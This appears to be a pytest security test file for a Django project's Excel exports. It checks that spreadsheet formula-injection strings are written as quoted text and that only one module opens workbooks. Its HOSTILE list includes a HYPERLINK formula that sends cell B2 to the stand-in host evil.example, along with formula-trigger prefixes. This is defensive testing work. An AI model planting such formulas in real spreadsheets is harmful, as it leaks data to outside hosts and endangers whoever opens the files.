"""Formula injection: every workbook the project writes keeps hostile text as quoted text.

One module (core.ledger.workbook) opens every workbook; a source scan fails if anything else
does, and each writer is fed the outside test's string and read back with openpyxl.
"""

import ast
import datetime
import io
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from tablib import Dataset

from children.models import ChildCategory
from core.ledger.registry import resource_class
from core.ledger.template import build_template
from core.ledger.workbook import dataset_to_xlsx
from reports.exports import write_visit_ledger
from reports.ledger import write_ledger

pytestmark = pytest.mark.security

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
ALLOWED = {
    "xlsxwriter": {Path("core/ledger/workbook.py")},
    "openpyxl": set(),
    "python_calamine": {Path("core/ledger/files.py")},
}


def project_sources():
    root = Path(settings.BASE_DIR)
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        parts = relative.parts
        if parts[0] in {".venv", "bench", "e2e", "node_modules"} or "tests" in parts or "migrations" in parts:
            continue
        if relative.name == "conftest.py":
            continue
        yield relative, path.read_text(encoding="utf-8")


def imports_of(source: str):
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            for alias in node.names:
                yield alias.name
        elif isinstance(node, ast.ImportFrom) and node.module:
            yield from (f"{node.module}.{alias.name}" for alias in node.names)


def test_only_the_workbook_module_opens_workbooks_and_only_the_reader_reads_them():
    offenders = []
    for relative, source in project_sources():
        for name in imports_of(source):
            package = name.split(".")[0]
            if name.startswith("xlsxwriter.utility"):
                continue  # cell-name helpers, no workbook
            if package in ALLOWED and relative not in ALLOWED[package]:
                offenders.append(f"{relative}: {name}")
    assert offenders == []


def test_the_scan_would_see_a_second_writer():
    source = "import xlsxwriter\nbook = xlsxwriter.Workbook('x.xlsx')\n"
    assert "xlsxwriter" in list(imports_of(source))


def cells(data_or_path):
    book = openpyxl.load_workbook(io.BytesIO(data_or_path) if isinstance(data_or_path, bytes) else data_or_path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def as_read(text: str) -> str:
    # xlsxwriter stores a CR as Excel's escape _x000D_, which Excel reads back and openpyxl does not.
    return text.replace("_x000D_", "\r")


def assert_hostile_text_is_quoted_text(data_or_path, expected=HOSTILE):
    seen = set()
    for cell in cells(data_or_path):
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        value = as_read(cell.value) if isinstance(cell.value, str) else cell.value
        if value in expected:
            assert cell.data_type == "s" and cell.quotePrefix, f"{cell.coordinate} {cell.value!r} has no quote prefix"
            seen.add(value)
    assert seen == set(expected), f"missing from the file: {set(expected) - seen}"


def test_admin_exports_keep_hostile_text():
    dataset = Dataset(*[[text, "普通文字"] for text in HOSTILE], headers=["姓名", "备注"])
    assert_hostile_text_is_quoted_text(dataset_to_xlsx(dataset))


@pytest.mark.django_db
def test_templates_keep_hostile_drop_down_values(users):
    ChildCategory.objects.create(name=HOSTILE[0])
    assert_hostile_text_is_quoted_text(build_template(resource_class("children"), users["admin"]), [HOSTILE[0]])


@pytest.mark.django_db
@pytest.mark.parametrize("text", HOSTILE)
def test_the_visit_ledger_job_keeps_hostile_text(world, users, tmp_path, text):
    visit = world["a"]["visit"]
    visit.findings = text
    visit.save()
    path = tmp_path / "visits.xlsx"
    write_visit_ledger(users["admin"], datetime.date(2025, 1, 1), None, path, lambda *args: None)
    assert_hostile_text_is_quoted_text(path, [text])


@pytest.mark.django_db
def test_the_monthly_ledger_keeps_hostile_text(world, users, tmp_path):
    child = world["a"]["child"]
    child.address = HOSTILE[0]
    child.school = "＝1+1"
    child.save()
    path = tmp_path / "ledger.xlsx"
    write_ledger(str(path), month=datetime.date(2025, 1, 1), user=users["admin"], mask_for=users["admin"])
    assert_hostile_text_is_quoted_text(path, [HOSTILE[0], "＝1+1"])
